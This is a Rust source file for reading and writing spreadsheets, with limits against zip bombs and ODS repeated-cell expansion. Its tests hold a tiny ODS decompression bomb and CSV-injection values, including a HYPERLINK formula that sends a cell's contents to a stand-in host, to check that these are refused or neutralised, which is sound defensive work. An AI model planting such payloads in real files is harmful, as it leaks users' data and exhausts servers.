//! Reading the first sheet of an XLSX, ODS or CSV file as rows of text, and writing
//! tables to XLSX (typed cells, frozen header) and CSV.
use std::io::Cursor;

mod template;
pub use template::{template_ods, template_xlsx, Template, TemplateColumn};

mod write;
pub use write::*;

#[derive(Debug, thiserror::Error)]
pub enum SheetError {
    #[error("the file is not a readable XLSX, ODS or CSV file: {0}")]
    Unreadable(String),
    #[error("the file has no sheet")]
    NoSheet,
    #[error("cannot write the file: {0}")]
    Write(String),
    /// Unpacked, the archive is larger than the limit (bytes): likely a "zip bomb".
    #[error("the file has no sheet named {0}")]
    NoSuchSheet(String, Vec<String>),
    #[error("the file unpacks to more than {0} bytes")]
    TooLargeUnpacked(u64),
    #[error("the file has more than {0} rows")]
    TooManyRows(usize),
}

/// What a file may hold before it is refused unread. Uploads through the web get
/// [`Limits::UPLOAD`]; the command line, run by the office on its own files, more.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Bytes of all the archive's files, unpacked (XLSX and ODS are ZIP archives).
    pub max_unpacked: u64,
    pub max_rows: usize,
}

impl Limits {
    pub const UPLOAD: Limits = Limits {
        max_unpacked: 64 * 1024 * 1024,
        max_rows: 100_000,
    };
    pub const COMMAND_LINE: Limits = Limits {
        max_unpacked: 4 * 1024 * 1024 * 1024,
        max_rows: 5_000_000,
    };
}

/// Unpacks every file of a ZIP archive into nothing, counting: refuses the archive as
/// soon as the count passes the limit (declared sizes can lie), so neither memory nor
/// time is spent on a bomb.
fn check_unpacked(bytes: &[u8], limits: &Limits) -> Result<(), SheetError> {
    let limit = limits.max_unpacked;
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes))
        .map_err(|e| SheetError::Unreadable(e.to_string()))?;
    let mut total = 0u64;
    for i in 0..zip.len() {
        let entry = zip
            .by_index(i)
            .map_err(|e| SheetError::Unreadable(e.to_string()))?;
        // An ODS sheet can repeat one cell over a million rows and columns in a few
        // bytes: its cells are counted as they unpack, repetitions included.
        let mut cells = RepeatedCells::new(limits.max_rows as u64 * 64);
        let ods_sheet = entry.name().is_ok_and(|n| n == "content.xml");
        let left = limit.saturating_sub(total);
        let mut source = std::io::Read::take(entry, left + 1);
        let n = if ods_sheet {
            std::io::copy(&mut source, &mut cells)
        } else {
            std::io::copy(&mut source, &mut std::io::sink())
        }
        .map_err(|e| match cells.over {
            true => SheetError::TooManyRows(limits.max_rows),
            false => SheetError::Unreadable(e.to_string()),
        })?;
        total += n;
        if total > limit {
            return Err(SheetError::TooLargeUnpacked(limit));
        }
    }
    Ok(())
}

/// Counts the non-empty cells of an ODS `content.xml` as it streams by, each row's and
/// cell's repetitions multiplied out; fails the write past `cap`.
struct RepeatedCells {
    cap: u64,
    cells: u64,
    row_repeat: u64,
    tag: Vec<u8>,
    in_tag: bool,
    over: bool,
}

impl RepeatedCells {
    fn new(cap: u64) -> RepeatedCells {
        RepeatedCells {
            cap,
            cells: 0,
            row_repeat: 1,
            tag: Vec::new(),
            in_tag: false,
            over: false,
        }
    }
    fn attr(tag: &str, name: &str) -> u64 {
        tag.split(name)
            .nth(1)
            .and_then(|rest| rest.trim_start_matches(['=', '"']).split('"').next())
            .and_then(|v| v.parse().ok())
            .unwrap_or(1)
    }
    fn close_tag(&mut self) -> std::io::Result<()> {
        let tag = String::from_utf8_lossy(&self.tag);
        if tag.starts_with("table:table-row") {
            self.row_repeat = Self::attr(&tag, "table:number-rows-repeated=");
        } else if (tag.starts_with("table:table-cell")
            || tag.starts_with("table:covered-table-cell"))
            && tag.contains("value-type")
        {
            let columns = Self::attr(&tag, "table:number-columns-repeated=");
            self.cells = self
                .cells
                .saturating_add(self.row_repeat.saturating_mul(columns));
        }
        self.tag.clear();
        if self.cells > self.cap {
            self.over = true;
            return Err(std::io::Error::other("too many cells"));
        }
        Ok(())
    }
}

impl std::io::Write for RepeatedCells {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        for &b in buf {
            match (self.in_tag, b) {
                (false, b'<') => self.in_tag = true,
                (true, b'>') => {
                    self.in_tag = false;
                    self.close_tag()?;
                }
                // Only the start of a tag matters: its name and attributes.
                (true, _) if self.tag.len() < 4096 => self.tag.push(b),
                _ => {}
            }
        }
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Xlsx,
    Ods,
    Csv,
}

impl Format {
    /// Decided by content, not by name: ZIP files are XLSX or ODS (by their manifest).
    pub fn detect(bytes: &[u8]) -> Format {
        if bytes.starts_with(b"PK\x03\x04") {
            let head = &bytes[..bytes.len().min(4096)];
            let ods: &[u8] = b"application/vnd.oasis.opendocument.spreadsheet";
            if head.windows(ods.len()).any(|w| w == ods) {
                Format::Ods
            } else {
                Format::Xlsx
            }
        } else {
            Format::Csv
        }
    }
}

/// A cell as the spreadsheet program stored it: what an importer must know to tell a
/// NIK typed as text from one a program turned into a number.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Empty,
    Text(String),
    Number(f64),
    /// `YYYY-MM-DD` (a cell with a date format, of any style).
    Date(String),
    Bool(bool),
}

impl Value {
    /// As text: whole numbers without `.0`, dates `YYYY-MM-DD`.
    pub fn text(&self) -> String {
        match self {
            Value::Empty => String::new(),
            Value::Text(s) | Value::Date(s) => s.clone(),
            Value::Number(f) if f.fract() == 0.0 && f.abs() < 1e17 => format!("{}", *f as i64),
            Value::Number(f) => f.to_string(),
            Value::Bool(b) => b.to_string(),
        }
    }
    pub fn is_empty(&self) -> bool {
        match self {
            Value::Empty => true,
            Value::Text(s) => s.trim().is_empty(),
            _ => false,
        }
    }
}

fn value(c: &calamine::Data) -> Value {
    use calamine::Data;
    match c {
        Data::Int(i) => Value::Number(*i as f64),
        Data::Float(f) => Value::Number(*f),
        Data::String(s) => Value::Text(s.trim().to_string()),
        Data::Bool(b) => Value::Bool(*b),
        Data::DateTime(d) => Value::Date(civil_from_serial(d.as_f64())),
        Data::DateTimeIso(s) => Value::Date(s.get(..10).unwrap_or(s).to_string()),
        Data::DurationIso(s) => Value::Text(s.clone()),
        Data::Error(_) | Data::Empty => Value::Empty,
    }
}

/// All rows of the first sheet with data (header included), cells as trimmed text.
/// Dates become `YYYY-MM-DD`; whole numbers lose their `.0`.
/// A file beyond `limits` is refused before it is parsed (archives) or as it is read.
pub fn read(bytes: &[u8], limits: &Limits) -> Result<Vec<Vec<String>>, SheetError> {
    Ok(read_values(bytes, limits, None)?
        .into_iter()
        .map(|r| r.iter().map(Value::text).collect())
        .collect())
}

/// The rows of a sheet as typed cells: the sheet named `sheet`, else the first that
/// holds any data (an office's file often opens with an empty or a cover sheet).
pub fn read_values(
    bytes: &[u8],
    limits: &Limits,
    sheet: Option<&str>,
) -> Result<Vec<Vec<Value>>, SheetError> {
    let format = Format::detect(bytes);
    if format != Format::Csv {
        check_unpacked(bytes, limits)?;
    }
    let rows = match format {
        Format::Csv => read_csv(bytes)?
            .into_iter()
            .map(|r| r.into_iter().map(Value::Text).collect())
            .collect(),
        Format::Xlsx => {
            let mut wb: calamine::Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes))
                .map_err(|e: calamine::XlsxError| SheetError::Unreadable(e.to_string()))?;
            pick_sheet(&mut wb, sheet)?
        }
        Format::Ods => {
            let mut wb: calamine::Ods<_> = calamine::open_workbook_from_rs(Cursor::new(bytes))
                .map_err(|e: calamine::OdsError| SheetError::Unreadable(e.to_string()))?;
            pick_sheet(&mut wb, sheet)?
        }
    };
    if rows.len() > limits.max_rows + 1 {
        return Err(SheetError::TooManyRows(limits.max_rows));
    }
    Ok(rows)
}

/// The names of a workbook's sheets (empty for CSV).
pub fn sheet_names(bytes: &[u8]) -> Vec<String> {
    use calamine::Reader;
    match Format::detect(bytes) {
        Format::Csv => Vec::new(),
        Format::Xlsx => calamine::open_workbook_from_rs::<calamine::Xlsx<_>, _>(Cursor::new(bytes))
            .map(|wb| wb.sheet_names())
            .unwrap_or_default(),
        Format::Ods => calamine::open_workbook_from_rs::<calamine::Ods<_>, _>(Cursor::new(bytes))
            .map(|wb| wb.sheet_names())
            .unwrap_or_default(),
    }
}

fn pick_sheet<'a, R: calamine::Reader<Cursor<&'a [u8]>>>(
    wb: &mut R,
    sheet: Option<&str>,
) -> Result<Vec<Vec<Value>>, SheetError>
where
    R::Error: std::fmt::Display,
{
    let names = wb.sheet_names();
    let wanted: Vec<String> = match sheet.map(str::trim).filter(|s| !s.is_empty()) {
        Some(name) => {
            let found = names.iter().find(|n| n.eq_ignore_ascii_case(name));
            vec![found
                .cloned()
                .ok_or_else(|| SheetError::NoSuchSheet(name.to_string(), names.clone()))?]
        }
        None => names.clone(),
    };
    for name in &wanted {
        let range = wb
            .worksheet_range(name)
            .map_err(|e| SheetError::Unreadable(e.to_string()))?;
        let rows: Vec<Vec<Value>> = range
            .rows()
            .map(|r| r.iter().map(value).collect())
            .collect();
        if sheet.is_some() || rows.iter().any(|r| r.iter().any(|c| !c.is_empty())) {
            return Ok(rows);
        }
    }
    Err(SheetError::NoSheet)
}

/// The first sheet of an XLSX file with typed cells: whole numbers as `Int`, dates as
/// `Date`, the rest as text (to check what a spreadsheet program will see).
pub fn read_cells(bytes: &[u8]) -> Result<Vec<Vec<Cell>>, SheetError> {
    read_cells_at(bytes, 0)
}

/// Sheet `index` (from 0) of an XLSX file with typed cells, as [`read_cells`].
pub fn read_cells_at(bytes: &[u8], index: usize) -> Result<Vec<Vec<Cell>>, SheetError> {
    use calamine::{Data, Reader};
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes))
        .map_err(|e: calamine::XlsxError| SheetError::Unreadable(e.to_string()))?;
    let range = wb
        .worksheet_range_at(index)
        .ok_or(SheetError::NoSheet)?
        .map_err(|e| SheetError::Unreadable(e.to_string()))?;
    Ok(range
        .rows()
        .map(|r| {
            r.iter()
                .map(|c| match c {
                    Data::Int(i) => Cell::Int(*i),
                    Data::Float(f) if f.fract() == 0.0 => Cell::Int(*f as i64),
                    Data::DateTime(d) => Cell::Date(civil_from_serial(d.as_f64())),
                    Data::Empty => Cell::Empty,
                    other => Cell::Text(value(other).text()),
                })
                .collect()
        })
        .collect())
}

fn read_csv(bytes: &[u8]) -> Result<Vec<Vec<String>>, SheetError> {
    let text = String::from_utf8_lossy(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes));
    // Indonesian spreadsheets often export with semicolons.
    let first = text.lines().next().unwrap_or("");
    let delim = if first.matches(';').count() > first.matches(',').count() {
        b';'
    } else {
        b','
    };
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delim)
        .from_reader(text.as_bytes());
    let mut rows = Vec::new();
    for rec in r.records() {
        let rec = rec.map_err(|e| SheetError::Unreadable(e.to_string()))?;
        rows.push(rec.iter().map(|c| c.trim().to_string()).collect());
    }
    Ok(rows)
}

/// A cell to write: text stays text (NIKs!), numbers and dates are real numbers and dates.
/// Days since 1899-12-30 (Excel's date serial) of `YYYY-MM-DD`.
pub(crate) fn excel_serial(s: &str) -> Option<f64> {
    let mut it = s.split('-');
    let y: i64 = it.next()?.parse().ok()?;
    let m: i64 = it.next()?.parse().ok()?;
    let d: i64 = it.next()?.parse().ok()?;
    Some((days_from_civil(y, m, d) - days_from_civil(1899, 12, 30)) as f64)
}

/// Days since 1970-01-01 of a proleptic Gregorian date (H. Hinnant's algorithm).
fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = y - era * 400;
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146097 + doe - 719468
}

/// `YYYY-MM-DD` of an Excel date serial.
fn civil_from_serial(serial: f64) -> String {
    let z = serial.floor() as i64 + days_from_civil(1899, 12, 30) + 719468;
    let era = if z >= 0 { z } else { z - 146096 } / 146097;
    let doe = z - era * 146097;
    let yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = if m <= 2 { y + 1 } else { y };
    format!("{y:04}-{m:02}-{d:02}")
}

#[cfg(test)]
mod bomb_tests {
    use super::*;

    /// An ODS of a few hundred bytes whose one cell repeats over a million rows and
    /// sixteen thousand columns is refused before calamine expands it.
    #[test]
    fn repeated_ods_cells_are_counted() {
        use std::io::Write;
        let content = r#"<office:document-content><office:body><office:spreadsheet><table:table table:name="A">
<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>
</table:table></office:spreadsheet></office:body></office:document-content>"#;
        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let stored = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        zip.start_file("mimetype", stored).unwrap();
        zip.write_all(b"application/vnd.oasis.opendocument.spreadsheet")
            .unwrap();
        zip.start_file("content.xml", stored).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
        let bytes = zip.finish().unwrap().into_inner();
        assert!(bytes.len() < 2000);
        assert!(matches!(
            read(&bytes, &Limits::UPLOAD),
            Err(SheetError::TooManyRows(_))
        ));
    }
}

#[cfg(test)]
mod csv_tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_numbers_stay() {
        let rows = vec![vec![
            Cell::Text("=HYPERLINK(\"http://x/?\"&A2,\"klik\")".into()),
            Cell::Text("+SUM(A1)".into()),
            Cell::Text("-2+3".into()),
            Cell::Text("@cmd".into()),
            Cell::Text("\tx".into()),
            Cell::Text("-500".into()),
            Cell::Text("+6281234567".into()),
            Cell::Text("Asep".into()),
            Cell::Int(-7),
        ]];
        let csv = String::from_utf8(write_csv(&["a"; 9], &rows).unwrap()).unwrap();
        let line = csv.lines().nth(1).unwrap();
        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
        for part in [
            "'+SUM(A1)",
            "'-2+3",
            "'@cmd",
            "'\tx",
            ",-500,",
            ",+6281234567,",
            ",Asep,",
            ",-7",
        ] {
            assert!(line.contains(part), "{part} in {line}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn xlsx_round_trip_keeps_text_numbers_and_dates() {
        let rows = vec![vec![
            Cell::Text("3279045708920003".into()),
            Cell::Int(42),
            Cell::Date("1992-08-17".into()),
            Cell::Empty,
        ]];
        let bytes = write_xlsx("Data", &["nik", "n", "birth_date", "x"], &rows).unwrap();
        assert_eq!(Format::detect(&bytes), Format::Xlsx);
        let back = read(&bytes, &Limits::UPLOAD).unwrap();
        assert_eq!(back[0], vec!["nik", "n", "birth_date", "x"]);
        assert_eq!(back[1][..3], ["3279045708920003", "42", "1992-08-17"]);
    }

    #[test]
    fn csv_with_semicolons_and_bom() {
        let rows = read(
            "\u{FEFF}nik;name\n3279045708920003;Siti\n".as_bytes(),
            &Limits::UPLOAD,
        )
        .unwrap();
        assert_eq!(
            rows,
            vec![vec!["nik", "name"], vec!["3279045708920003", "Siti"]]
        );
        assert!(read(b"PK\x03\x04garbage", &Limits::UPLOAD).is_err());
    }

    #[test]
    fn serials() {
        assert_eq!(excel_serial("1900-03-01"), Some(61.0));
        assert_eq!(civil_from_serial(33833.0), "1992-08-17");
        assert_eq!(
            civil_from_serial(excel_serial("2012-05-14").unwrap()),
            "2012-05-14"
        );
    }
}
